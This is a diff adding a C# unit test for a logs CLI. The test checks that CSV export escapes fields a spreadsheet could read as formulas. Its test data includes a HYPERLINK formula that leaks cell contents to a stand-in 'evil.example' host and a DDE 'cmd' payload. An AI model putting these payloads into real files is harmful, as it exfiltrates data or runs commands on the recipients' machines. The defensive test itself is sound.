@@ -110,6 +110,30 @@ public sealed class LogsCommandTests : IAsyncLifetime
         Assert.DoesNotContain(_ids["answered"], output, StringComparison.Ordinal);
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Details\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Details\"\")\"")]
+    [InlineData("=1+1", "'=1+1")]
+    [InlineData("+1 555 0100", "'+1 555 0100")]
+    [InlineData("-2+3", "'-2+3")]
+    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
+    [InlineData("\t=1+1", "'\t=1+1")]
+    [InlineData("\r=1+1", "\"'\r=1+1\"")]
+    public async Task ExportCsv_WritesAFieldThatAFormulaCouldStartAsText(string question, string field)
+    {
+        await using var log = new LogServices();
+        await log.StartAsync();
+        var id = log.Log.Record(Sample.Alice, Sample.Refused(question, "None of my 5 articles mentions “leak”."), TimeSpan.FromMilliseconds(1));
+        log.Log.SetStatus(id, ModerationStatus.Flagged, "=cmd|' /C calc'!A0");
+        await log.StopAsync();
+
+        var (exitCode, output, error) = await CliRunner.RunAsync(string.Empty, ["logs", "export", "--format", "csv", "--log", log.LogPath]);
+
+        Assert.True(exitCode == 0, error);
+        Assert.Contains($",telegram,", output, StringComparison.Ordinal);
+        Assert.Contains($",{field},true,", output, StringComparison.Ordinal);
+        Assert.Contains(",flagged,'=cmd|' /C calc'!A0,", output, StringComparison.Ordinal);
+    }
+
     [Fact]
     public async Task ExportJsonl_IsTheSameAsListJson()
     {
